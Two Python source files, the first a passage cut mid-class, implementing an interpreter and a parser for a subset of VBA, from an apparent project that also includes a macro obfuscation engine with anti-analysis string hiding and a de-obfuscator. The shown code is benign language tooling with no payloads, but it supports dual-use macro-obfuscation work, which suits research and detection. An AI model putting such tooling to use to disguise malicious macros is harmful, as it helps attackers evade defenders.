        self, expression: ast.MemberAccess, env: dict[str, object]
    ) -> object:
        rendered = _render_member(expression, env, self)
        if rendered in self.host_values:
            return self.host_values[rendered]
        raise VBARuntimeError(
            f"host member access outside executable subset: {rendered}",
            expression.line,
        )

    def _eval_binop(self, expression: ast.BinOp, env: dict[str, object]) -> object:
        op = expression.op
        left = self._eval(expression.left, env)
        if op == "and":
            # VBA And is not short-circuit, but side-effect-free here.
            right = self._eval(expression.right, env)
            return self._truthy(left) and self._truthy(right)
        if op == "or":
            right = self._eval(expression.right, env)
            return self._truthy(left) or self._truthy(right)
        if op == "xor":
            right = self._eval(expression.right, env)
            if isinstance(left, bool) or isinstance(right, bool):
                return self._truthy(left) != self._truthy(right)
            return self._as_int(left, expression.line) ^ self._as_int(
                right, expression.line
            )
        right = self._eval(expression.right, env)
        line = expression.line
        if op == "&":
            return _to_vba_string(left) + _to_vba_string(right)
        if op == "+":
            if isinstance(left, str) and isinstance(right, str):
                return left + right
            return self._as_number(left, line) + self._as_number(right, line)
        if op == "-":
            return self._as_number(left, line) - self._as_number(right, line)
        if op == "*":
            return self._as_number(left, line) * self._as_number(right, line)
        if op == "/":
            divisor = self._as_number(right, line)
            if divisor == 0:
                raise VBARuntimeError("division by zero", line)
            return self._as_number(left, line) / divisor
        if op == "\\":
            divisor = self._as_int(right, line)
            if divisor == 0:
                raise VBARuntimeError("division by zero", line)
            dividend = self._as_int(left, line)
            # VBA \ truncates toward zero; compute with exact integer math.
            quotient = abs(dividend) // abs(divisor)
            return quotient if (dividend >= 0) == (divisor >= 0) else -quotient
        if op == "mod":
            divisor = self._as_int(right, line)
            if divisor == 0:
                raise VBARuntimeError("division by zero", line)
            dividend = self._as_int(left, line)
            remainder = abs(dividend) % abs(divisor)
            return remainder if dividend >= 0 else -remainder
        if op == "^":
            return self._as_number(left, line) ** self._as_number(right, line)
        if op in ("=", "<>", "<", ">", "<=", ">="):
            return _compare(op, left, right, line)
        raise VBARuntimeError(f"unsupported operator {op!r}", line)

    # ------------------------------------------------------------------
    # Coercions

    @staticmethod
    def _truthy(value: object) -> bool:
        if isinstance(value, bool):
            return value
        if isinstance(value, (int, float)):
            return value != 0
        if value is None:
            return False
        raise VBARuntimeError(f"cannot use {value!r} as a condition")

    @staticmethod
    def _as_number(value: object, line: int) -> int | float:
        if isinstance(value, bool):
            return -1 if value else 0  # VBA True is -1
        if value is None:
            return 0  # uninitialized variables are Empty, numerically 0
        if isinstance(value, (int, float)):
            return value
        if isinstance(value, str):
            try:
                return float(value) if "." in value else int(value)
            except ValueError:
                raise VBARuntimeError(
                    f"type mismatch: {value!r} is not numeric", line
                ) from None
        raise VBARuntimeError(f"type mismatch: {value!r}", line)

    @classmethod
    def _as_int(cls, value: object, line: int) -> int:
        number = cls._as_number(value, line)
        if isinstance(number, float):
            return _banker_round(number)
        return number


def _banker_round(value: float) -> int:
    """VBA CLng/CInt use banker's rounding, which is Python's ``round``."""
    return int(round(value))


def _to_vba_string(value: object) -> str:
    if isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "True" if value else "False"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if value is None:
        return ""
    return str(value)


def _compare(op: str, left: object, right: object, line: int) -> bool:
    if isinstance(left, str) != isinstance(right, str):
        # Mixed comparison: coerce to numbers where possible.
        left = Interpreter._as_number(left, line)
        right = Interpreter._as_number(right, line)
    if op == "=":
        return left == right
    if op == "<>":
        return left != right
    if op == "<":
        return left < right
    if op == ">":
        return left > right
    if op == "<=":
        return left <= right
    return left >= right


def _render_member(
    expression: ast.MemberAccess, env: dict[str, object], interp: Interpreter
) -> str:
    """Render a member chain as text for host_values lookup.

    ``ActiveDocument.Variables("x").Value()`` renders to exactly that string,
    matching what :class:`repro.obfuscation.antianalysis.StringHider` emits.
    """
    base = expression.base
    if isinstance(base, ast.Name):
        base_text = base.name
    elif isinstance(base, ast.MemberAccess):
        base_text = _render_member(base, env, interp)
    else:
        base_text = "?"
    args_text = ""
    if expression.args is not None:
        rendered_args = []
        for arg in expression.args:
            value = interp._eval(arg, env)
            if isinstance(value, str):
                rendered_args.append(f'"{value}"')
            else:
                rendered_args.append(_to_vba_string(value))
        args_text = "(" + ", ".join(rendered_args) + ")"
    return f"{base_text}.{expression.member}{args_text}"


# ----------------------------------------------------------------------
# Built-in functions


def _require(args: list, count: int, name: str, line: int) -> None:
    if len(args) < count:
        raise VBARuntimeError(f"{name} needs {count} argument(s)", line)


def _bi_chr(interp, args, line):
    _require(args, 1, "Chr", line)
    code = interp._as_int(args[0], line)
    if not 0 <= code < 0x110000:
        raise VBARuntimeError(f"Chr out of range: {code}", line)
    return chr(code)


def _bi_asc(interp, args, line):
    _require(args, 1, "Asc", line)
    text = _to_vba_string(args[0])
    if not text:
        raise VBARuntimeError("Asc of empty string", line)
    return ord(text[0])


def _bi_len(interp, args, line):
    _require(args, 1, "Len", line)
    value = args[0]
    if isinstance(value, list):
        return len(value)
    return len(_to_vba_string(value))


def _bi_mid(interp, args, line):
    _require(args, 2, "Mid", line)
    text = _to_vba_string(args[0])
    start = interp._as_int(args[1], line)
    if start < 1:
        raise VBARuntimeError("Mid start must be >= 1", line)
    if len(args) >= 3:
        length = interp._as_int(args[2], line)
        return text[start - 1 : start - 1 + length]
    return text[start - 1 :]


def _bi_left(interp, args, line):
    _require(args, 2, "Left", line)
    return _to_vba_string(args[0])[: interp._as_int(args[1], line)]


def _bi_right(interp, args, line):
    _require(args, 2, "Right", line)
    count = interp._as_int(args[1], line)
    text = _to_vba_string(args[0])
    return text[-count:] if count else ""


def _bi_replace(interp, args, line):
    _require(args, 3, "Replace", line)
    return _to_vba_string(args[0]).replace(
        _to_vba_string(args[1]), _to_vba_string(args[2])
    )


def _bi_instr(interp, args, line):
    # InStr([start, ]haystack, needle)
    _require(args, 2, "InStr", line)
    if isinstance(args[0], (int, float)) and len(args) >= 3:
        start = interp._as_int(args[0], line)
        haystack = _to_vba_string(args[1])
        needle = _to_vba_string(args[2])
    else:
        start = 1
        haystack = _to_vba_string(args[0])
        needle = _to_vba_string(args[1])
    if start < 1:
        raise VBARuntimeError("InStr start must be >= 1", line)
    position = haystack.find(needle, start - 1)
    return position + 1


def _bi_instrrev(interp, args, line):
    _require(args, 2, "InStrRev", line)
    haystack = _to_vba_string(args[0])
    needle = _to_vba_string(args[1])
    return haystack.rfind(needle) + 1


def _bi_lcase(interp, args, line):
    _require(args, 1, "LCase", line)
    return _to_vba_string(args[0]).lower()


def _bi_ucase(interp, args, line):
    _require(args, 1, "UCase", line)
    return _to_vba_string(args[0]).upper()


def _bi_trim(interp, args, line):
    _require(args, 1, "Trim", line)
    return _to_vba_string(args[0]).strip(" ")


def _bi_ltrim(interp, args, line):
    _require(args, 1, "LTrim", line)
    return _to_vba_string(args[0]).lstrip(" ")


def _bi_rtrim(interp, args, line):
    _require(args, 1, "RTrim", line)
    return _to_vba_string(args[0]).rstrip(" ")


def _bi_space(interp, args, line):
    _require(args, 1, "Space", line)
    return " " * interp._as_int(args[0], line)


def _bi_string(interp, args, line):
    _require(args, 2, "String", line)
    count = interp._as_int(args[0], line)
    char = _to_vba_string(args[1])[:1]
    return char * count


def _bi_strreverse(interp, args, line):
    _require(args, 1, "StrReverse", line)
    return _to_vba_string(args[0])[::-1]


def _bi_split(interp, args, line):
    _require(args, 1, "Split", line)
    delimiter = _to_vba_string(args[1]) if len(args) >= 2 else " "
    return _to_vba_string(args[0]).split(delimiter)


def _bi_join(interp, args, line):
    _require(args, 1, "Join", line)
    if not isinstance(args[0], list):
        raise VBARuntimeError("Join needs an array", line)
    delimiter = _to_vba_string(args[1]) if len(args) >= 2 else " "
    return delimiter.join(_to_vba_string(item) for item in args[0])


def _bi_array(interp, args, line):
    return list(args)


def _bi_ubound(interp, args, line):
    _require(args, 1, "UBound", line)
    if not isinstance(args[0], list):
        raise VBARuntimeError("UBound needs an array", line)
    return len(args[0]) - 1


def _bi_lbound(interp, args, line):
    _require(args, 1, "LBound", line)
    if not isinstance(args[0], list):
        raise VBARuntimeError("LBound needs an array", line)
    return 0


def _bi_cstr(interp, args, line):
    _require(args, 1, "CStr", line)
    return _to_vba_string(args[0])


def _bi_clng(interp, args, line):
    _require(args, 1, "CLng", line)
    value = args[0]
    if isinstance(value, str):
        return _string_to_number(value, line, integral=True)
    return interp._as_int(value, line)


def _bi_cint(interp, args, line):
    return _bi_clng(interp, args, line)


def _bi_cdbl(interp, args, line):
    _require(args, 1, "CDbl", line)
    value = args[0]
    if isinstance(value, str):
        return float(_string_to_number(value, line, integral=False))
    return float(interp._as_number(value, line))


def _bi_val(interp, args, line):
    _require(args, 1, "Val", line)
    text = _to_vba_string(args[0]).strip()
    if text.lower().startswith("&h"):
        digits = ""
        for ch in text[2:]:
            if ch in "0123456789abcdefABCDEF":
                digits += ch
            else:
                break
        return int(digits, 16) if digits else 0
    # Val reads the longest numeric prefix, 0 if none.
    best = 0.0
    matched = False
    for end in range(len(text), 0, -1):
        try:
            best = float(text[:end])
            matched = True
            break
        except ValueError:
            continue
    if not matched:
        return 0
    return int(best) if best.is_integer() else best


def _string_to_number(text: str, line: int, integral: bool) -> int | float:
    stripped = text.strip()
    try:
        if stripped.lower().startswith("&h"):
            return int(stripped[2:], 16)
        value = float(stripped)
    except ValueError:
        raise VBARuntimeError(f"type mismatch: {text!r}", line) from None
    return _banker_round(value) if integral else value


def _bi_hex(interp, args, line):
    _require(args, 1, "Hex", line)
    return format(interp._as_int(args[0], line), "X")


def _bi_oct(interp, args, line):
    _require(args, 1, "Oct", line)
    return format(interp._as_int(args[0], line), "o")


def _bi_abs(interp, args, line):
    _require(args, 1, "Abs", line)
    return abs(interp._as_number(args[0], line))


def _bi_sqr(interp, args, line):
    _require(args, 1, "Sqr", line)
    value = interp._as_number(args[0], line)
    if value < 0:
        raise VBARuntimeError("Sqr of negative number", line)
    return value**0.5


def _bi_round(interp, args, line):
    _require(args, 1, "Round", line)
    digits = interp._as_int(args[1], line) if len(args) >= 2 else 0
    return round(interp._as_number(args[0], line), digits)


def _bi_int(interp, args, line):
    _require(args, 1, "Int", line)
    import math

    return math.floor(interp._as_number(args[0], line))


def _bi_fix(interp, args, line):
    _require(args, 1, "Fix", line)
    return int(interp._as_number(args[0], line))


def _bi_sgn(interp, args, line):
    _require(args, 1, "Sgn", line)
    value = interp._as_number(args[0], line)
    return (value > 0) - (value < 0)


def _bi_isnumeric(interp, args, line):
    _require(args, 1, "IsNumeric", line)
    value = args[0]
    if isinstance(value, (int, float, bool)):
        return True
    if isinstance(value, str):
        try:
            float(value)
            return True
        except ValueError:
            return False
    return False


def _bi_strcomp(interp, args, line):
    _require(args, 2, "StrComp", line)
    left, right = _to_vba_string(args[0]), _to_vba_string(args[1])
    if len(args) >= 3 and interp._as_int(args[2], line) == 1:
        left, right = left.lower(), right.lower()
    return (left > right) - (left < right)


def _bi_strconv(interp, args, line):
    _require(args, 2, "StrConv", line)
    text = _to_vba_string(args[0])
    mode = interp._as_int(args[1], line)
    if mode == 1:
        return text.upper()
    if mode == 2:
        return text.lower()
    if mode == 3:
        return text.title()
    return text


_BUILTINS = {
    "chr": _bi_chr, "chr$": _bi_chr, "chrw": _bi_chr,
    "asc": _bi_asc, "ascw": _bi_asc,
    "len": _bi_len,
    "mid": _bi_mid, "mid$": _bi_mid,
    "left": _bi_left, "left$": _bi_left,
    "right": _bi_right, "right$": _bi_right,
    "replace": _bi_replace,
    "instr": _bi_instr,
    "instrrev": _bi_instrrev,
    "lcase": _bi_lcase, "lcase$": _bi_lcase,
    "ucase": _bi_ucase, "ucase$": _bi_ucase,
    "trim": _bi_trim, "ltrim": _bi_ltrim, "rtrim": _bi_rtrim,
    "space": _bi_space,
    "string": _bi_string, "string$": _bi_string,
    "strreverse": _bi_strreverse,
    "split": _bi_split, "join": _bi_join,
    "array": _bi_array, "ubound": _bi_ubound, "lbound": _bi_lbound,
    "cstr": _bi_cstr, "clng": _bi_clng, "cint": _bi_cint, "cdbl": _bi_cdbl,
    "cbyte": _bi_clng, "cbool": lambda i, a, l: Interpreter._truthy(a[0]),
    "val": _bi_val, "hex": _bi_hex, "oct": _bi_oct,
    "abs": _bi_abs, "sqr": _bi_sqr, "round": _bi_round,
    "int": _bi_int, "fix": _bi_fix, "sgn": _bi_sgn,
    "isnumeric": _bi_isnumeric,
    "strcomp": _bi_strcomp, "strconv": _bi_strconv,
}


def run_function(
    source: str,
    name: str,
    *args: object,
    host_values: dict[str, object] | None = None,
) -> object:
    """Convenience wrapper: parse, then call one function."""
    return Interpreter.from_source(source, host_values).call(name, *args)


def evaluate_expression(
    expression: str,
    host_values: dict[str, object] | None = None,
    module_source: str = "",
) -> object:
    """Evaluate a VBA expression, optionally with helper procedures in scope.

    This is how the obfuscation tests check that an encoded string expression
    decodes back to the original value.
    """
    wrapper = (
        f"{module_source}\n"
        f"Function EvalWrapper__() As Variant\n"
        f"    EvalWrapper__ = {expression}\n"
        f"End Function\n"
    )
    return run_function(wrapper, "EvalWrapper__", host_values=host_values)
