"""Recursive-descent parser for the executable VBA subset.

Parses the constructs the corpus generators and obfuscation engine emit —
a practical subset of [MS-VBAL] — into the AST of
:mod:`repro.vba.ast_nodes`.  Anything outside the subset raises
:class:`VBAParseError` with a line number.
"""

from __future__ import annotations

from repro.vba import ast_nodes as ast
from repro.vba.lexer import tokenize
from repro.vba.tokens import Token, TokenKind


class VBAParseError(Exception):
    """Raised when source falls outside the supported VBA subset."""

    def __init__(self, message: str, line: int) -> None:
        super().__init__(f"line {line}: {message}")
        self.line = line


#: Statement-position identifiers treated as harmless no-ops (host UI and
#: error-handling chatter that does not affect string/number semantics).
_NOOP_STATEMENTS = frozenset({"doevents", "msgbox", "randomize", "beep", "sendkeys"})

_MODIFIER_KEYWORDS = frozenset({"public", "private", "friend", "global", "static"})


def parse_module(
    source: str,
    tolerant: bool = False,
    tokens: list[Token] | None = None,
) -> ast.Module:
    """Parse a whole module: procedures plus module-level statements.

    With ``tolerant=True``, statements outside the supported subset are
    preserved verbatim as :class:`~repro.vba.ast_nodes.NoOpStmt` instead of
    raising — the mode the de-obfuscator uses so host-I/O chatter
    (``Declare``, ``Open … For Binary``, ``Put #``) survives unchanged.

    ``tokens`` lets a caller that already lexed ``source`` (the analyzer
    keeps its token stream) skip the re-tokenization, which dominates
    parse cost on large modules.  The list must be the unfiltered
    :func:`~repro.vba.lexer.tokenize` output for exactly ``source``.
    """
    return _Parser(source, tolerant=tolerant, tokens=tokens).parse_module()


def parse_statements(source: str) -> list[ast.Statement]:
    """Parse a bare statement list (no procedure wrapper), for tests."""
    parser = _Parser(source)
    body = parser.parse_statement_block(terminators=frozenset())
    parser.expect_eof()
    return list(body)


class _Parser:
    def __init__(
        self,
        source: str,
        tolerant: bool = False,
        tokens: list[Token] | None = None,
    ) -> None:
        self._tolerant = tolerant
        self._tokens = [
            token
            for token in (tokenize(source) if tokens is None else tokens)
            if token.kind
            not in (
                TokenKind.WHITESPACE,
                TokenKind.COMMENT,
                TokenKind.LINE_CONTINUATION,
            )
        ]
        self._pos = 0
        #: statements already parsed but not yet delivered — a single source
        #: statement can expand to several AST statements (``Const A = 1, B = 2``)
        self._pending: list[ast.Statement] = []

    # ------------------------------------------------------------------
    # Token cursor helpers

    def _peek(self, offset: int = 0) -> Token:
        index = min(self._pos + offset, len(self._tokens) - 1)
        return self._tokens[index]

    def _advance(self) -> Token:
        token = self._tokens[self._pos]
        if self._pos < len(self._tokens) - 1:
            self._pos += 1
        return token

    def _at_keyword(self, *words: str) -> bool:
        token = self._peek()
        return token.kind is TokenKind.KEYWORD and token.text.lower() in words

    def _at_punct(self, text: str) -> bool:
        token = self._peek()
        return token.kind is TokenKind.PUNCT and token.text == text

    def _at_operator(self, text: str) -> bool:
        token = self._peek()
        return token.kind is TokenKind.OPERATOR and token.text == text

    def _expect_keyword(self, word: str) -> Token:
        if not self._at_keyword(word):
            raise VBAParseError(
                f"expected {word!r}, found {self._peek().text!r}", self._peek().line
            )
        return self._advance()

    def _expect_punct(self, text: str) -> Token:
        if not self._at_punct(text):
            raise VBAParseError(
                f"expected {text!r}, found {self._peek().text!r}", self._peek().line
            )
        return self._advance()

    def _expect_identifier(self) -> Token:
        token = self._peek()
        if token.kind is not TokenKind.IDENTIFIER:
            raise VBAParseError(
                f"expected identifier, found {token.text!r}", token.line
            )
        return self._advance()

    def _skip_separators(self) -> None:
        while self._peek().kind is TokenKind.NEWLINE or self._at_punct(":"):
            self._advance()

    def _end_of_statement(self) -> bool:
        return self._peek().kind in (TokenKind.NEWLINE, TokenKind.EOF) or self._at_punct(":")

    def expect_eof(self) -> None:
        self._skip_separators()
        if self._peek().kind is not TokenKind.EOF:
            raise VBAParseError(
                f"unexpected trailing {self._peek().text!r}", self._peek().line
            )

    # ------------------------------------------------------------------
    # Module level

    def parse_module(self) -> ast.Module:
        module = ast.Module()
        while True:
            if self._pending:
                module.module_statements.append(self._pending.pop(0))
                continue
            self._skip_separators()
            token = self._peek()
            if token.kind is TokenKind.EOF:
                break
            self._consume_modifiers()
            if self._at_keyword("sub", "function"):
                start = self._pos
                pending_mark = len(self._pending)
                try:
                    procedure = self._parse_procedure()
                except VBAParseError:
                    # A malformed header (``Sub Broken(((``) must not abort a
                    # tolerant parse: drop the header line and resume at
                    # module level.  A file truncated mid-procedure (EOF
                    # before ``End Sub``) stays a hard error — its body
                    # cannot be attributed to anything.
                    if not self._tolerant or self._peek().kind is TokenKind.EOF:
                        raise
                    self._pos = start
                    del self._pending[pending_mark:]
                    line = self._peek().line
                    raw = self._skip_rest_of_line()
                    module.module_statements.append(ast.NoOpStmt(raw, line))
                    continue
                module.procedures[procedure.name.lower()] = procedure
                continue
            if self._at_keyword("option"):
                self._skip_rest_of_line()
                continue
            statement = self._parse_statement_or_raw()
            module.module_statements.append(statement)
        return module

    def _consume_modifiers(self) -> bool:
        consumed = False
        while self._peek().kind is TokenKind.KEYWORD and self._peek().text.lower() in _MODIFIER_KEYWORDS:
            self._advance()
            consumed = True
        return consumed

    def _parse_procedure(self) -> ast.Procedure:
        keyword = self._advance()  # sub | function
        kind = keyword.text.lower()
        name = self._expect_identifier()
        params: list[str] = []
        if self._at_punct("("):
            self._advance()
            while not self._at_punct(")"):
                # Skip parameter modifiers.
                while self._at_keyword("byval", "byref", "optional", "paramarray"):
                    self._advance()
                param = self._expect_identifier()
                params.append(param.text)
                if self._at_keyword("as"):
                    self._advance()
                    self._advance()  # type name (keyword or identifier)
                if self._at_punct(","):
                    self._advance()
            self._expect_punct(")")
        if self._at_keyword("as"):
            self._advance()
            self._advance()  # return type
        body = self.parse_statement_block(terminators=frozenset({"end"}))
        self._expect_keyword("end")
        self._expect_keyword(kind)
        return ast.Procedure(
            kind=kind,
            name=name.text,
            params=tuple(params),
            body=body,
            line=keyword.line,
        )

    # ------------------------------------------------------------------
    # Statements

    def parse_statement_block(
        self, terminators: frozenset[str]
    ) -> tuple[ast.Statement, ...]:
        """Parse statements until a terminator keyword is at statement start."""
        statements: list[ast.Statement] = []
        while True:
            if self._pending:
                statements.append(self._pending.pop(0))
                continue
            self._skip_separators()
            token = self._peek()
            if token.kind is TokenKind.EOF:
                break
            if token.kind is TokenKind.KEYWORD and token.text.lower() in terminators:
                break
            statements.append(self._parse_statement_or_raw())
        return tuple(statements)

    def _parse_statement_or_raw(self) -> ast.Statement:
        start = self._pos
        pending_mark = len(self._pending)
        line = self._peek().line
        try:
            return self._parse_statement()
        except VBAParseError:
            if not self._tolerant:
                raise
            self._pos = start
            del self._pending[pending_mark:]  # drop partial expansions
            raw = self._skip_rest_of_line()
            return ast.NoOpStmt(raw, line)

    def _parse_statement(self) -> ast.Statement:
        token = self._peek()

        if token.kind is TokenKind.KEYWORD:
            keyword = token.text.lower()
            if keyword in _MODIFIER_KEYWORDS:
                self._consume_modifiers()
                return self._parse_statement()
            if keyword == "dim" or keyword == "redim":
                return self._parse_dim()
            if keyword == "const":
                return self._parse_const()
            if keyword == "set" or keyword == "let":
                self._advance()
                return self._parse_assignment_or_call()
            if keyword == "if":
                return self._parse_if()
            if keyword == "for":
                return self._parse_for()
            if keyword == "do":
                return self._parse_do()
            if keyword == "while":
                return self._parse_while_wend()
            if keyword == "with":
                return self._parse_with()
            if keyword == "exit":
                return self._parse_exit()
            if keyword == "call":
                return self._parse_call_keyword()
            if keyword in ("on", "option", "debug", "stop"):
                line = token.line
                head = self._advance().text
                rest = self._skip_rest_of_line()
                text = f"{head} {rest}".strip()
                return ast.NoOpStmt(text, line)
            raise VBAParseError(f"unsupported statement {token.text!r}", token.line)

        if token.kind is TokenKind.IDENTIFIER:
            lowered = token.text.lower()
            if lowered in _NOOP_STATEMENTS:
                line = token.line
                head = self._advance().text
                rest = self._skip_rest_of_line()
                text = f"{head} {rest}".strip()
                return ast.NoOpStmt(text, line)
            return self._parse_assignment_or_call()

        raise VBAParseError(f"unexpected token {token.text!r}", token.line)

    def _skip_rest_of_line(self) -> str:
        """Skip to end of statement, returning the skipped tokens' text."""
        pieces: list[str] = []
        while not self._end_of_statement():
            pieces.append(self._advance().text)
        return " ".join(pieces)

    def _parse_dim(self) -> ast.Statement:
        keyword = self._advance()  # dim / redim
        names: list[tuple[str, ast.Expression | None]] = []
        while True:
            if self._at_keyword("preserve"):
                self._advance()
            name = self._expect_identifier()
            extent: ast.Expression | None = None
            if self._at_punct("("):
                self._advance()
                if not self._at_punct(")"):
                    extent = self._parse_expression()
                    # ``Dim a(1 To 10)`` — keep the upper bound.
                    if self._at_keyword("to"):
                        self._advance()
                        extent = self._parse_expression()
                self._expect_punct(")")
            names.append((name.text, extent))
            if self._at_keyword("as"):
                self._advance()
                self._advance()  # type
            if self._at_punct(","):
                self._advance()
                continue
            break
        return ast.DimStmt(tuple(names), keyword.line)

    def _parse_const(self) -> ast.Statement:
        keyword = self._expect_keyword("const")
        first = self._parse_one_const(keyword.line)
        # ``Const A = 1, B = 2`` expands into one ConstStmt per name; the
        # extras are queued and drained by the enclosing block loop.
        while self._at_punct(","):
            self._advance()
            self._pending.append(self._parse_one_const(keyword.line))
        return first

    def _parse_one_const(self, line: int) -> ast.ConstStmt:
        name = self._expect_identifier()
        if self._at_keyword("as"):
            self._advance()
            self._advance()
        if not self._at_operator("="):
            raise VBAParseError("Const requires '='", line)
        self._advance()
        value = self._parse_expression()
        return ast.ConstStmt(name.text, value, line)

    def _parse_assignment_or_call(self) -> ast.Statement:
        start = self._peek()
        target = self._parse_postfix()
        if self._at_operator("="):
            self._advance()
            value = self._parse_expression()
            if isinstance(target, (ast.Name, ast.Call, ast.MemberAccess)):
                return ast.Assign(target, value, start.line)
            raise VBAParseError("invalid assignment target", start.line)
        # Statement-position call: ``Helper`` or ``Shell prog, 1``.
        if isinstance(target, (ast.Call, ast.MemberAccess)) and self._end_of_statement():
            return ast.CallStmt(target, start.line)
        if isinstance(target, ast.Name):
            if self._end_of_statement():
                return ast.CallStmt(
                    ast.Call(target.name, (), start.line), start.line
                )
            args = [self._parse_expression()]
            while self._at_punct(","):
                self._advance()
                args.append(self._parse_expression())
            return ast.CallStmt(
                ast.Call(target.name, tuple(args), start.line), start.line
            )
        if isinstance(target, ast.MemberAccess):
            # ``obj.Method arg1, arg2`` — attach the arguments.
            args = [self._parse_expression()]
            while self._at_punct(","):
                self._advance()
                args.append(self._parse_expression())
            return ast.CallStmt(
                ast.MemberAccess(
                    target.base, target.member, tuple(args), start.line
                ),
                start.line,
            )
        raise VBAParseError(
            f"cannot parse statement at {start.text!r}", start.line
        )

    def _parse_if(self) -> ast.Statement:
        keyword = self._expect_keyword("if")
        condition = self._parse_expression()
        self._expect_keyword("then")
        if not self._end_of_statement():
            # Single-line If: colon-separated statements after ``Then`` are
            # part of the then-body (``If a Then b = 1: c = 2``), up to an
            # optional single-line ``Else``.
            then_body = self._parse_inline_body()
            else_body: tuple[ast.Statement, ...] = ()
            if self._at_keyword("else"):
                self._advance()
                else_body = self._parse_inline_body()
            return ast.IfStmt(
                ((condition, then_body),), else_body, keyword.line
            )
        branches: list[tuple[ast.Expression, tuple[ast.Statement, ...]]] = []
        body = self.parse_statement_block(
            terminators=frozenset({"elseif", "else", "end"})
        )
        branches.append((condition, body))
        else_body = ()
        while True:
            if self._at_keyword("elseif"):
                self._advance()
                branch_condition = self._parse_expression()
                self._expect_keyword("then")
                branch_body = self.parse_statement_block(
                    terminators=frozenset({"elseif", "else", "end"})
                )
                branches.append((branch_condition, branch_body))
                continue
            if self._at_keyword("else"):
                self._advance()
                else_body = self.parse_statement_block(
                    terminators=frozenset({"end"})
                )
            break
        self._expect_keyword("end")
        self._expect_keyword("if")
        return ast.IfStmt(tuple(branches), else_body, keyword.line)

    def _parse_inline_body(self) -> tuple[ast.Statement, ...]:
        """Parse colon-joined statements on a single-line ``If`` branch."""
        body = [self._parse_statement()]
        body.extend(self._drain_pending())
        while self._at_punct(":"):
            while self._at_punct(":"):
                self._advance()
            if self._peek().kind in (TokenKind.NEWLINE, TokenKind.EOF):
                break
            if self._at_keyword("else", "elseif", "end", "next", "wend", "loop"):
                break
            body.append(self._parse_statement())
            body.extend(self._drain_pending())
        return tuple(body)

    def _drain_pending(self) -> list[ast.Statement]:
        drained = list(self._pending)
        self._pending.clear()
        return drained

    def _parse_for(self) -> ast.Statement:
        keyword = self._expect_keyword("for")
        if self._at_keyword("each"):
            self._advance()
            var = self._expect_identifier()
            self._expect_keyword("in")
            iterable = self._parse_expression()
            body = self.parse_statement_block(terminators=frozenset({"next"}))
            self._expect_keyword("next")
            if self._peek().kind is TokenKind.IDENTIFIER:
                self._advance()
            return ast.ForEachStmt(var.text, iterable, body, keyword.line)
        var = self._expect_identifier()
        if not self._at_operator("="):
            raise VBAParseError("For requires '='", keyword.line)
        self._advance()
        start = self._parse_expression()
        self._expect_keyword("to")
        end = self._parse_expression()
        step: ast.Expression | None = None
        if self._at_keyword("step"):
            self._advance()
            step = self._parse_expression()
        body = self.parse_statement_block(terminators=frozenset({"next"}))
        self._expect_keyword("next")
        if self._peek().kind is TokenKind.IDENTIFIER:
            self._advance()
        return ast.ForStmt(var.text, start, end, step, body, keyword.line)

    def _parse_do(self) -> ast.Statement:
        keyword = self._expect_keyword("do")
        if self._at_keyword("while", "until"):
            kind = self._advance().text.lower()
            condition = self._parse_expression()
            body = self.parse_statement_block(terminators=frozenset({"loop"}))
            self._expect_keyword("loop")
            return ast.DoLoopStmt(condition, kind, True, body, keyword.line)
        body = self.parse_statement_block(terminators=frozenset({"loop"}))
        self._expect_keyword("loop")
        if self._at_keyword("while", "until"):
            kind = self._advance().text.lower()
            condition = self._parse_expression()
            return ast.DoLoopStmt(condition, kind, False, body, keyword.line)
        # ``Do … Loop`` with no condition: infinite — require Exit Do.
        return ast.DoLoopStmt(
            ast.Literal(True, keyword.line), "while", True, body, keyword.line
        )

    def _parse_while_wend(self) -> ast.Statement:
        keyword = self._expect_keyword("while")
        condition = self._parse_expression()
        body = self.parse_statement_block(terminators=frozenset({"wend"}))
        self._expect_keyword("wend")
        return ast.DoLoopStmt(condition, "while", True, body, keyword.line)

    def _parse_with(self) -> ast.Statement:
        keyword = self._expect_keyword("with")
        subject = self._parse_expression()
        body: list[ast.Statement] = []
        while True:
            self._skip_separators()
            if self._at_keyword("end"):
                break
            if self._peek().kind is TokenKind.EOF:
                raise VBAParseError("unterminated With block", keyword.line)
            if self._at_punct("."):
                # ``.Member = value`` / ``.Method args`` — host operations
                # on the block subject, preserved verbatim.
                line = self._peek().line
                raw = self._skip_rest_of_line()
                body.append(ast.NoOpStmt(raw, line))
                continue
            body.append(self._parse_statement_or_raw())
        self._expect_keyword("end")
        self._expect_keyword("with")
        return ast.WithStmt(subject, tuple(body), keyword.line)

    def _parse_exit(self) -> ast.Statement:
        keyword = self._expect_keyword("exit")
        token = self._advance()
        kind = token.text.lower()
        if kind not in ("sub", "function", "for", "do"):
            raise VBAParseError(f"cannot Exit {token.text!r}", keyword.line)
        return ast.ExitStmt(kind, keyword.line)

    def _parse_call_keyword(self) -> ast.Statement:
        keyword = self._expect_keyword("call")
        target = self._parse_postfix()
        if isinstance(target, ast.Name):
            target = ast.Call(target.name, (), target.line)
        if not isinstance(target, (ast.Call, ast.MemberAccess)):
            raise VBAParseError("Call requires a procedure", keyword.line)
        return ast.CallStmt(target, keyword.line)

    # ------------------------------------------------------------------
    # Expressions (precedence climbing, VBA operator table)

    def _parse_expression(self) -> ast.Expression:
        return self._parse_imp()

    def _parse_imp(self) -> ast.Expression:
        left = self._parse_or()
        while self._at_keyword("imp", "eqv"):
            op = self._advance().text.lower()
            right = self._parse_or()
            left = ast.BinOp(op, left, right, left.line)
        return left

    def _parse_or(self) -> ast.Expression:
        left = self._parse_and()
        while self._at_keyword("or", "xor"):
            op = self._advance().text.lower()
            right = self._parse_and()
            left = ast.BinOp(op, left, right, left.line)
        return left

    def _parse_and(self) -> ast.Expression:
        left = self._parse_not()
        while self._at_keyword("and"):
            self._advance()
            right = self._parse_not()
            left = ast.BinOp("and", left, right, left.line)
        return left

    def _parse_not(self) -> ast.Expression:
        if self._at_keyword("not"):
            token = self._advance()
            operand = self._parse_not()
            return ast.UnaryOp("not", operand, token.line)
        return self._parse_comparison()

    _COMPARISONS = ("=", "<>", "<", ">", "<=", ">=")

    def _parse_comparison(self) -> ast.Expression:
        left = self._parse_concat()
        while (
            self._peek().kind is TokenKind.OPERATOR
            and self._peek().text in self._COMPARISONS
        ) or self._at_keyword("like", "is"):
            op = self._advance().text.lower()
            right = self._parse_concat()
            left = ast.BinOp(op, left, right, left.line)
        return left

    def _parse_concat(self) -> ast.Expression:
        left = self._parse_additive()
        while self._at_operator("&"):
            self._advance()
